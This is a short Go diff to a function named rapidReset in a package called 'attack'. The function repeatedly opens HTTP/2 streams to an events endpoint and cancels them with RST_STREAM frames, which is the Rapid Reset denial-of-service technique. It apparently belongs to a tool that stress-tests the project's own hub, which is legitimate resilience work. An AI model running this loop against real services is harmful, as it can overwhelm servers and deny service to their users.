@@ -1,3 +1,5 @@
+//go:build linux
+
 package attack
 
 import (
@@ -16,9 +18,9 @@ func rapidReset(ctx context.Context, t *trial) {
 		}
 		defer c.close()
 		go func() {
-			for ctx.Err() == nil {
-				id, err := c.open("/events?topic=*&last=100")
-				if err == nil {
+			for n := 0; ctx.Err() == nil; n++ {
+				id, err := c.open("/events?topic=*&last=10", "accept", "application/x-ndjson")
+				if err == nil && n%100 > 0 { // the others show that the hub still answers
 					err = c.write(func() error { return c.framer.WriteRSTStream(id, http2.ErrCodeCancel) })
 				}
 				if err != nil {
